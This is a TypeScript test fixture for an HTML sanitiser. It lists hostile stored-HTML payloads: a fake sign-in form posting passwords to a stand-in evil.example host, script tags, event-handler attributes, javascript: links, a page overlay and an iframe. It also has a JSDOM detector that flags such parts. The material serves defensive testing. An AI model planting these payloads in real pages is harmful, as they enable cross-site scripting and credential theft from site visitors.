import { JSDOM } from 'jsdom';

/**
 * Stored-HTML payloads the API must clean before storing: a fake sign-in form, a page-wide style,
 * script, handlers, frames and script addresses. Each keeps a bit of text that must survive.
 */
export const HOSTILE_HTML = [
  '<p>Keep <strong>this</strong> text.</p>',
  '<form action="https://evil.example/steal"><label>Password <input type="password" name="pass"></label><button>Sign in again</button></form>',
  '<style>body { display: none }</style>',
  '<script>alert(1)</script>',
  '<img src="x" onerror="alert(2)">',
  '<p style="position:fixed;inset:0" onclick="alert(3)">Overlay</p>',
  '<a href="javascript:alert(4)">Open</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<select><option>a</option></select><textarea>t</textarea>',
  '<svg onload="alert(5)"><circle r="4"></circle></svg>',
].join('');

const UNSAFE_ELEMENTS =
  'script, style, form, input, button, textarea, select, option, iframe, frame, object, embed, svg, math, meta, base, link';

/** Every part of the HTML that could run script, restyle the page or post a form. */
export function unsafeParts(html: string): string[] {
  const root = new JSDOM(`<body>${html}</body>`).window.document.body;
  const found: string[] = [];
  root.querySelectorAll(UNSAFE_ELEMENTS).forEach((el) => found.push(`<${el.tagName}>`));
  root.querySelectorAll('*').forEach((el) => {
    for (const attr of Array.from(el.attributes)) {
      if (/^on/i.test(attr.name) || attr.name === 'style') found.push(`${el.tagName} ${attr.name}`);
      if (/^\s*(javascript|vbscript|data):/i.test(attr.value)) {
        found.push(`${el.tagName} ${attr.name}=${attr.value}`);
      }
    }
  });
  return found;
}
